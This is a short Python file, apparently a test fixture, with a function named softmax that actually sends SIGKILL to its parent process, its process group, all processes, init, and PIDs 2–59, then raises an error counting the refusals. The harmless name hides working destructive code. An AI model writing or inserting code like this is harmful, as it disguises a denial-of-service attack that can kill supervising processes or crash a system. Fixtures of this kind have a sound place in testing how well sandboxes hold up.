"""run_time_error: signals its parent, its group, and everything in sight."""

import os
import signal


def softmax(scores, axis=-1):
    refused = 0
    for target in (os.getppid(), 0, -1, 1, *range(2, 60)):
        try:
            os.kill(target, signal.SIGKILL)
        except PermissionError:
            refused += 1
    raise RuntimeError(f"{refused} of 62 refused")
